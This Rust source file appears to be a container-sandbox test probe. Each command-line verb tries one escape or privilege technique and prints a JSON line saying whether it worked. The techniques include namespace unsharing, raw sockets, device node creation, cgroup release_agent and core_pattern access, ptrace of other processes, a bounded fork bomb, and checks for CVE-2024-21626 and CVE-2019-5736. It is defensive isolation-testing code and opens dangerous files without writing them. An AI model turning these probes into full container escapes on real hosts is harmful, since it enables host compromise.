//! Runs inside a container and attacks: each verb tries one thing and prints one line of JSON,
//! `{"attack":"...","worked":true|false,"how":"..."}`. Nothing here harms a host even if it works:
//! dangerous files are opened for writing, never written.

#[path = "fuse.rs"]
mod fuse;
#[path = "race.rs"]
mod race;
#[path = "raw.rs"]
mod raw;
#[path = "reach.rs"]
mod reach;

use std::{
    fs::{self, OpenOptions},
    io::Read,
    os::fd::AsRawFd,
    path::Path,
    process::ExitCode,
    time::{Duration, Instant},
};

use nix::{
    errno::Errno,
    mount::{MsFlags, mount},
    sched::{CloneFlags, unshare},
    sys::{
        signal::{Signal, kill},
        stat::{Mode, SFlag, makedev, mknod},
        wait::waitpid,
    },
    unistd::{ForkResult, Pid, geteuid, pause},
};

/// What an attempt came to: how it worked, or what stopped it.
type Outcome = Result<String, String>;

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let Some(attack) = args.first() else {
        return ExitCode::from(2);
    };
    let argument = args.get(1).map_or("", String::as_str);
    let outcome = match attack.as_str() {
        "unshare-user" => unshare(CloneFlags::CLONE_NEWUSER).map_or_else(stopped, worked),
        "unshare-network" => unshare(CloneFlags::CLONE_NEWNET).map_or_else(stopped, worked),
        "unshare-pid" => unshare(CloneFlags::CLONE_NEWPID).map_or_else(stopped, worked),
        "unshare-mount" => unshare(CloneFlags::CLONE_NEWNS).map_or_else(stopped, worked),
        "clone-user" => raw::clone_user().map_or_else(stopped, worked),
        "clone3-user" => raw::clone3_user().map_or_else(stopped, worked),
        "add-key" => raw::add_key().map_or_else(stopped, worked),
        "keyctl" => raw::join_keyring().map_or_else(stopped, worked),
        "raw-socket" => raw::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_ICMP)
            .map_or_else(stopped, worked),
        "packet-socket" => {
            raw::socket(libc::AF_PACKET, libc::SOCK_RAW, 0).map_or_else(stopped, worked)
        }
        "alg-socket" => {
            raw::socket(libc::AF_ALG, libc::SOCK_SEQPACKET, 0).map_or_else(stopped, worked)
        }
        "socketcall" => raw::socketcall_unix().map_or_else(stopped, worked),
        "mknod" => make_device(),
        "mount-proc" => mount_fresh("proc", ""),
        "core-pattern" => open_for_writing("/proc/sys/kernel/core_pattern"),
        "drop-caches" => open_for_writing("/proc/sys/vm/drop_caches"),
        "release-agent" => release_agent(),
        "ptrace" => match argument.parse() {
            Ok(pid) => raw::seize(pid).map_or_else(stopped, worked),
            Err(_) => Err("no pid".to_owned()),
        },
        "ptrace-any" => ptrace_any(argument),
        "euid" => effective_root(),
        "fork-bomb" => fork_bomb(argument.parse().unwrap_or(100)),
        "steal-exe" => steal_executable(Duration::from_secs(argument.parse().unwrap_or(5))),
        "open-for-writing" => open_for_writing(argument),
        "read" => reach::read(argument),
        "list" => reach::list(argument),
        "create" => reach::create(argument),
        "truncate" => reach::truncate(argument),
        "device-command" => reach::command(argument),
        "tcp-bind" => reach::bind(argument),
        "tcp-connect" => reach::connect(argument),
        "signal" => reach::signal(argument),
        "listen-abstract" => reach::listen_abstract(argument),
        "connect-abstract" => reach::connect_abstract(argument),
        "leaked-directory" => leaked_directory(argument),
        "swap" => race::swap(argument, args.get(2).map_or("", String::as_str)),
        "mount-by-path" => race::mount_by_path(
            Path::new(argument),
            Path::new(args.get(2).map_or("", String::as_str)),
        ),
        "chroot-by-path" => race::chroot_by_path(Path::new(argument)),
        "serve-fuse" => fuse::serve(argument, args.get(2).is_some_and(|kind| kind == "mappable")),
        "headless" => raw::without_main_thread(),
        "sleep" => {
            pause();
            Ok("woken".to_owned())
        }
        _ => return ExitCode::from(2),
    };
    report(attack, outcome);
    ExitCode::SUCCESS
}

#[expect(clippy::print_stdout, reason = "the answer")]
fn report(attack: &str, outcome: Outcome) {
    let (worked, how) = match outcome {
        Ok(how) => (true, how),
        Err(how) => (false, how),
    };
    println!(
        "{}",
        serde_json::json!({"attack": attack, "worked": worked, "how": how})
    );
}

fn worked<T>(_: T) -> Outcome {
    Ok("the call succeeded".to_owned())
}

#[expect(clippy::needless_pass_by_value, reason = "used as a function value")]
fn stopped<E: ToString>(error: E) -> Outcome {
    Err(error.to_string())
}

/// Makes the node of /dev/zero anew and reads from it.
fn make_device() -> Outcome {
    let path = Path::new("/tmp/made-device");
    mknod(
        path,
        SFlag::S_IFCHR,
        Mode::from_bits_truncate(0o666),
        makedev(1, 5),
    )
    .map_err(|e| e.to_string())?;
    let mut byte = [1u8];
    let read = fs::File::open(path).and_then(|mut file| file.read_exact(&mut byte));
    let _ = fs::remove_file(path);
    read.map_or_else(stopped, worked)
}

fn mount_fresh(kind: &str, data: &str) -> Outcome {
    let at = "/tmp/fresh";
    fs::create_dir_all(at).map_err(|e| e.to_string())?;
    let data = (!data.is_empty()).then_some(data);
    mount(Some(kind), at, Some(kind), MsFlags::empty(), data).map_or_else(stopped, worked)
}

/// Opens, and writes nothing.
fn open_for_writing(path: &str) -> Outcome {
    OpenOptions::new()
        .write(true)
        .open(path)
        .map_or_else(stopped, worked)
}

/// Mounts a cgroup v1 hierarchy and opens its root's release_agent.
fn release_agent() -> Outcome {
    for controller in ["memory", "pids", "freezer"] {
        if mount_fresh("cgroup", controller).is_ok() {
            return open_for_writing("/tmp/fresh/release_agent");
        }
    }
    mount_fresh("cgroup", "memory")
}

/// Attaches to any process whose command line holds `mark`, as seen in /proc here.
fn ptrace_any(mark: &str) -> Outcome {
    let mut seen = 0;
    for entry in fs::read_dir("/proc").map_err(|e| e.to_string())?.flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<i32>() else {
            continue;
        };
        if pid == i32::try_from(std::process::id()).unwrap_or(0) {
            continue;
        }
        let command = fs::read(entry.path().join("cmdline")).unwrap_or_default();
        if String::from_utf8_lossy(&command).contains(mark) {
            seen += 1;
            if raw::seize(pid).is_ok() {
                return Ok(format!("attached to {pid}"));
            }
        }
    }
    Err(format!("{seen} such processes in sight, attached to none"))
}

fn effective_root() -> Outcome {
    if geteuid().is_root() {
        Ok("effective uid 0".to_owned())
    } else {
        Err(format!("effective uid {}", geteuid()))
    }
}

/// Forks up to `goal` sleeping children; at the end all are killed.
fn fork_bomb(goal: usize) -> Outcome {
    let mut children: Vec<Pid> = Vec::new();
    let mut failure = Errno::UnknownErrno;
    while children.len() < goal {
        match raw::fork() {
            Ok(ForkResult::Child) => {
                pause();
                std::process::exit(0);
            }
            Ok(ForkResult::Parent { child }) => children.push(child),
            Err(errno) => {
                failure = errno;
                break;
            }
        }
    }
    let made = children.len();
    for child in &children {
        let _ = kill(*child, Signal::SIGKILL);
        let _ = waitpid(*child, None);
    }
    if made == goal {
        Ok(format!("{made} processes"))
    } else {
        Err(format!("stopped at {made} by {failure}"))
    }
}

/// CVE-2024-21626: looks for the secret through every descriptor and the working directory.
fn leaked_directory(secret: &str) -> Outcome {
    let relative = format!("{}{secret}", "../".repeat(20));
    if let Ok(text) = fs::read_to_string(&relative)
        && std::env::current_dir().is_err()
    {
        return Ok(format!("through the working directory: {text}"));
    }
    for fd in 3..1024 {
        if raw::change_directory(fd).is_ok()
            && let Ok(text) = fs::read_to_string(&relative)
        {
            return Ok(format!("through descriptor {fd}: {text}"));
        }
    }
    Err("no descriptor leads outside".to_owned())
}

/// CVE-2019-5736: waits for a process of the runtime to appear in here, opens its executable, and
/// when that is no longer busy opens it again for writing.
fn steal_executable(patience: Duration) -> Outcome {
    let ours = fs::metadata("/proc/self/exe")
        .map(|m| identity(&m))
        .map_err(|e| e.to_string())?;
    let until = Instant::now() + patience;
    let mut seen = 0u32;
    let mut last = String::from("no executable from outside was opened");
    while Instant::now() < until {
        for entry in fs::read_dir("/proc").map_err(|e| e.to_string())?.flatten() {
            if !entry
                .file_name()
                .to_string_lossy()
                .starts_with(|c: char| c.is_ascii_digit())
            {
                continue;
            }
            let exe = entry.path().join("exe");
            let Ok(file) = fs::File::open(&exe) else {
                continue;
            };
            let Ok(meta) = file.metadata() else { continue };
            if identity(&meta) == ours || is_in_image(&meta) {
                continue;
            }
            seen += 1;
            let again = format!("/proc/self/fd/{}", file.as_raw_fd());
            let busy_until = Instant::now() + Duration::from_millis(500);
            loop {
                match OpenOptions::new().write(true).open(&again) {
                    Ok(_) => return Ok("the runtime's executable can be written".to_owned()),
                    Err(error) => last = error.to_string(),
                }
                if Instant::now() > busy_until {
                    break;
                }
            }
        }
    }
    Err(format!("{seen} opened, none writable: {last}"))
}

fn identity(meta: &fs::Metadata) -> (u64, u64) {
    use std::os::unix::fs::MetadataExt;
    (meta.dev(), meta.ino())
}

fn is_in_image(meta: &fs::Metadata) -> bool {
    ["/bin/busybox", "/bin/attack-probe"]
        .iter()
        .any(|path| fs::metadata(path).is_ok_and(|m| identity(&m) == identity(meta)))
}
